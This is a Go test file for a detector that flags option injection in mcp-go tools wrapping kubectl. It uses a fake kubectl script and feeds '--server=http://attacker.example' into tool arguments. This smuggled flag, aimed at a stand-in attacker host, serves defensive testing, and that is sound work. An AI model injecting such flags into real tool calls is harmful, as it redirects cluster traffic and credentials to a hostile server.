package escape_test

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/mark3labs/mcp-go/server"

	mark31 "fixtures/omcg0031/mark"
)

// fakeKubectl puts a kubectl on PATH that reads its options as kubectl's
// flag parser (pflag) does: every argument starting with "-" until "--"
// is an option, and a short option that takes a value (-n, -o, -c) takes
// the next argument whatever it is. It writes the value of --server= to
// the file it returns: a tool whose argument becomes that option sends
// kubectl to another API server.
func fakeKubectl(t *testing.T) (marker string) {
	return fakeCLI(t, "kubectl", "--server")
}

// fakeCLI puts a program called name on PATH that reads its options as
// fakeKubectl's does, and writes the value of option= to the file it
// returns.
func fakeCLI(t *testing.T, name, option string) (marker string) {
	t.Helper()
	bin := t.TempDir()
	marker = filepath.Join(bin, "option")
	script := `#!/bin/sh
value=
for a in "$@"; do
	if [ -n "$value" ]; then value=; continue; fi
	case "$a" in
	--) exit 0 ;;
	-n|-o|-c) value=1 ;;
	` + option + `=*) printf '%s' "${a#` + option + `=}" > "` + marker + `" ;;
	esac
done
`
	if err := os.WriteFile(filepath.Join(bin, name), []byte(script), 0o755); err != nil {
		t.Fatal(err)
	}
	t.Setenv("PATH", bin+string(os.PathListSeparator)+os.Getenv("PATH"))
	return marker
}

// OMCG0031 on mcp-go tools that read their arguments with
// mcp.ParseString and mcp.ParseArgument, registered bare or through
// wrappers of another package: kubectl reads "--server=…" as its option
// in the flagged tools, and as a name after "--" or as -n's value in the
// others, whose wrappers never pass the client's request on. Served by mcp-go over Streamable HTTP, called
// with the go-sdk's client.
func TestOptionInjectionKubectl(t *testing.T) {
	marker := fakeKubectl(t)
	cs := connectMark(t, func(s *server.MCPServer) { mark31.Register(s); mark31.RegisterAppended(s) })
	const attacker = "http://attacker.example"
	hostile := "--server=" + attacker
	for _, tc := range []struct {
		tool    string
		args    map[string]any
		flagged bool
	}{
		{"kubectl_get", map[string]any{"resource_type": hostile}, true},
		{"kubectl_describe", map[string]any{"name": hostile}, true},
		{"kubectl_rollout", map[string]any{"name": hostile}, true}, // through the trace wrappers
		{"kubectl_get_appended", map[string]any{"resource_type": "pods", "resource_name": hostile}, true},
		{"kubectl_logs_appended", map[string]any{"pod_name": hostile}, true},
		{"kubectl_get_ended", map[string]any{"resource_type": hostile}, false},
		{"kubectl_pods", map[string]any{"namespace": hostile}, false},
		{"kubectl_restart", map[string]any{"name": hostile}, false}, // the wrapper never calls it
		{"kubectl_history", map[string]any{"name": hostile}, false}, // called with the wrapper's request
		{"kubectl_get_appended", map[string]any{"resource_type": "pods", "namespace": hostile}, false},
		{"kubectl_get_appended", map[string]any{"resource_type": "pods", "all_namespaces": "true", "output": hostile}, false},
		{"kubectl_get_appended_ended", map[string]any{"resource_type": hostile}, false},
	} {
		os.Remove(marker)
		call(t, cs, tc.tool, tc.args)
		got, _ := os.ReadFile(marker)
		if escaped := strings.TrimSpace(string(got)) == attacker; escaped != tc.flagged {
			t.Errorf("%s %v: kubectl read --server= as its option: %v, want %v", tc.tool, tc.args, escaped, tc.flagged)
		}
	}
}
